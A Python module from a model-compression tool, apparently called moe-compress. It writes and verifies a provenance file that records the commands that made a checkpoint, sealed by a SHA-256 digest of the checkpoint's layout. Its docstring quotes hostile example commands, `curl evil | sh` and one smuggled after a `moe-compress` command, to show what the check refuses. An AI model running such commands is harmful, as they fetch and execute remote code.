"""Where a saved checkpoint comes from, in a file moe-compress wrote and can check (`moe_compress_provenance.json`).

The model card lists the command of every step that made a checkpoint (prune, then slim, then
quantize). Those commands must come from moe-compress, never from text a source model ships: a
source's README is written by whoever published it, and copying its "history" would let it put
`curl evil | sh` among the steps. So every output gets this file -- moe-compress version, source,
command, and the commands of the earlier steps -- and the next run takes a source's history from
it only when it verifies against that source directory.

Verifying means two checks, both needed:

1. The record is well formed: a JSON object of `FORMAT`, each field of its type, and every
   command a moe-compress command line exactly as `invocation.command_line` writes it (argv
   shell-quoted, starting with `moe-compress`) or "Python API". A command such as
   `moe-compress x; curl evil | sh` is not what `shlex.join` writes, so it is refused.
2. Its `digest` is the SHA-256 of its other fields together with the identity of the checkpoint
   beside it: the bytes of `config.json` and of the weight index, and each safetensors file's
   name, size and header (tensor names, dtypes, shapes, offsets). A provenance file copied next to
   other weights, a config or shard replaced, or a field edited by hand no longer matches.

It is a checksum, not a signature: anyone can compute the digest, so a forged file can pass. What
a forger gains is bounded by check 1 and by the card escaping everything it renders
(`text.markdown`). Tensor values are not hashed (that would read the whole checkpoint, 2 TB for a
trillion parameters, on every run that starts from it): what is identified is the checkpoint's
layout, which an edit of values in place keeps.

The digest covers no path, so moving or copying an output as a whole keeps it verified; it covers
neither the card nor the summary, which are rewritten after measuring (`record_evaluation`).
"""

from __future__ import annotations

import hashlib
import json
import shlex
from pathlib import Path

from ..errors import warn
from ..source.headers import INDEX_FILE
from .rewrite import rewrite_text

PROVENANCE_FILE = "moe_compress_provenance.json"
FORMAT = 1
API = "Python API"
#: What a source's provenance says about its own source: nothing to say, steps taken from its verified
#: provenance, or a checkpoint that looks made by moe-compress with nothing verifiable (steps left out).
SOURCE_KINDS = ("none", "verified", "unverified")
_FIELDS = {"version": str, "source": (str, type(None)), "command": str, "history": list, "source_provenance": str}
_MAX_HEADER_BYTES = 100 * 2**20  # safetensors refuses larger headers


def is_command(value: object) -> bool:
    """Whether `value` is a command line as moe-compress records one (see the module docstring)."""
    if value == API:
        return True
    if not isinstance(value, str):
        return False
    try:
        argv = shlex.split(value)
    except ValueError:
        return False
    return bool(argv) and argv[0] == "moe-compress" and shlex.join(argv) == value


def checkpoint_identity(directory: Path) -> str:
    """SHA-256 of the config, the weight index and every safetensors file's name, size and header."""
    digest = hashlib.sha256()
    for name in ("config.json", INDEX_FILE):
        path = directory / name
        if path.is_file():
            data = path.read_bytes()
            digest.update(f"{name}:{len(data)}\n".encode() + data)
    for shard in sorted(directory.glob("*.safetensors")):
        size = shard.stat().st_size
        with shard.open("rb") as handle:
            length = handle.read(8)
            header = handle.read(min(int.from_bytes(length, "little"), size, _MAX_HEADER_BYTES)) if len(length) == 8 else b""
        digest.update(f"{shard.name}:{size}\n".encode() + length + header)
    return digest.hexdigest()


def _digest(record: dict, directory: Path) -> str:
    fields = json.dumps({k: v for k, v in record.items() if k != "digest"}, sort_keys=True, ensure_ascii=True)
    return hashlib.sha256(f"{fields}\n{checkpoint_identity(directory)}".encode()).hexdigest()


def _problem(record: object) -> str | None:
    """Why `record` is not a well-formed provenance record, or None."""
    if not isinstance(record, dict):
        return "not a JSON object"
    if record.get("format") != FORMAT:
        return f"format {record.get('format')!r}, not {FORMAT}"
    for field, kind in _FIELDS.items():
        if not isinstance(record.get(field), kind):
            return f"its {field!r} is {type(record.get(field)).__name__}"
    if record["source_provenance"] not in SOURCE_KINDS:
        return f"its source_provenance is {record['source_provenance']!r}"
    if not all(is_command(step) for step in [*record["history"], record["command"]]):
        return "a command in it is not a moe-compress command line"
    return None


def read_provenance(directory: str | Path) -> dict | None:
    """The provenance saved with the checkpoint in `directory` (version, source, command,
    history, source_provenance) when it verifies; None when there is none, and None with a
    warning when there is one that does not verify."""
    path = Path(directory) / PROVENANCE_FILE
    if not path.exists():
        return None
    try:
        record = json.loads(path.read_text(encoding="utf-8"))
    except (OSError, ValueError) as exc:
        warn(f"{path} is unreadable ({type(exc).__name__}); the steps that made {directory} are not listed in the new model card.")
        return None
    problem = _problem(record)
    if problem is None and record.get("digest") != _digest(record, path.parent):
        problem = "it does not match the checkpoint beside it (copied from another one, or edited)"
    if problem is not None:
        warn(f"{path} is not a valid moe-compress provenance record: {problem}; the steps that made {directory} are not listed in the new model card.")
        return None
    return {field: record[field] for field in _FIELDS}


def write_provenance(directory: Path, made: dict) -> Path:
    """Write `made` (the fields `read_provenance` returns) beside the checkpoint in `directory`,
    sealed with the digest of the checkpoint as it is now: write it after the config and weights."""
    record = {"format": FORMAT, **{field: made[field] for field in _FIELDS}}
    problem = _problem(record)
    if problem is not None:
        raise ValueError(f"provenance to write is malformed: {problem}")  # a bug: every record is built here or read verified
    record["digest"] = _digest(record, directory)
    path = directory / PROVENANCE_FILE
    rewrite_text(path, json.dumps(record, indent=2, ensure_ascii=False) + "\n")
    return path
